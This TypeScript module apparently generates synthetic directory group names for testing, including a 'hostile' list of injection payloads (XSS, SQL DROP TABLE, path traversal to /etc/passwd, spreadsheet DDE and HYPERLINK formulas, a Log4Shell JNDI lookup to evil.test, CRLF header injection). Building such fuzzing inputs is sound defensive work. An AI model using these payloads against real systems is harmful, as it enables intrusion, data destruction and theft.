import type { Vendor } from '../app.ts';
import { Choices, CONSONANTS } from '../choices.ts';
import { groupId } from './object-id.ts';
import type { Group, PersonaSpec } from './person.ts';

const FIELDS = ['Orbital', 'Tidal', 'Lunar', 'Coastal', 'Alpine', 'Polar', 'Cloud', 'Volcanic'];
const CRAFTS = ['Mechanics', 'Cartography', 'Acoustics', 'Forestry', 'Optics', 'Masonry', 'Ballistics', 'Weaving'];
const BODIES = ['Guild', 'Assembly', 'Circle', 'Chapter', 'Collective', 'Society'];

/** Names that do harm where a name is read as anything but a name. `~` is where the group's own letters go. */
const HOSTILE = [
  '<script>alert("~")</script>',
  '<img src=x onerror=alert(1)> ~',
  '../../etc/passwd ~',
  '..\\..\\windows\\system32 ~',
  "'; DROP TABLE groups; -- ~",
  '" OR "1"="1" ~',
  '=HYPERLINK("http://~.evil.test","open")',
  '@SUM(1+1)*cmd|~!A0',
  '${jndi:ldap://~.evil.test/a}',
  '{{7*7}} ~',
  'admins%00~',
  'admins%0d%0aSet-Cookie: group=~',
  'Sales, Marketing; Finance | ~',
  'R&amp;D &lt;~&gt;',
  '__proto__ ~',
  'admins\u202e~',
  '  Keyholders ~  ',
];

/** Names that are one name each, whatever the commas say. */
const COMMAS = ['Sales, EMEA ~', 'CN=Keyholders ~,OU=Groups,DC=corp,DC=test', 'Finance; Tax | Audit, ~', ',~,'];

/** Letters beyond ASCII: composed and decomposed, right to left, beyond the first plane. */
const NON_ASCII = [
  'Vertrieb Süd ~',
  'Vertrieb Su\u0308d ~',
  'Бухгалтерия ~',
  '営業部 ~',
  'فريق المبيعات ~',
  '🦦 𝔖𝔞𝔩𝔢𝔰 ~',
];

/** How many groups a persona is in, direct and through nesting. */
export function groupCount(groups: PersonaSpec['groups']): number {
  return typeof groups === 'object' ? groups.direct + groups.nested : (groups ?? 0);
}

/** That many groups which belong to nobody else, flattened as a directory lists them. */
export function groupsOf(
  vendor: Vendor,
  count: number,
  names: PersonaSpec['groupNames'],
  nonce: string,
  ...key: string[]
): Group[] {
  return Array.from({ length: count }, (_, index) => {
    const choices = new Choices('group', vendor, ...key, index);
    const mark = `${choices.text(CONSONANTS, 8)} ${nonce}`;
    return {
      id: groupId[vendor](choices, nonce),
      name: nameOf(names, index, choices).replace('~', mark),
    };
  });
}

/** The name with the domain of Active Directory before it: `CORP\\Keyholders`. */
export const netbiosName = (tenant: string, { name }: Pick<Group, 'name'>): string =>
  `${tenant.toUpperCase()}\\${name}`;

/** Everything that an application may take for the name of one of these groups: ids, names, and all names as one text. */
export const namesOfGroups = (tenant: string, groups: readonly Group[]): string[] =>
  groups.length === 0
    ? []
    : [
        ...groups.flatMap((group) => [group.id, group.name, netbiosName(tenant, group)]),
        ...(groups.length > 1 ? [groups.map(({ name }) => name).join(',')] : []),
      ];

function nameOf(names: PersonaSpec['groupNames'], index: number, choices: Choices): string {
  const lists = { hostile: HOSTILE, commas: COMMAS, 'non-ascii': NON_ASCII };
  if (names === undefined || names === 'plain')
    return `${choices.pick(FIELDS)} ${choices.pick(CRAFTS)} ${choices.pick(BODIES)} ~`;
  const list = lists[names];
  return list[index % list.length] ?? '';
}
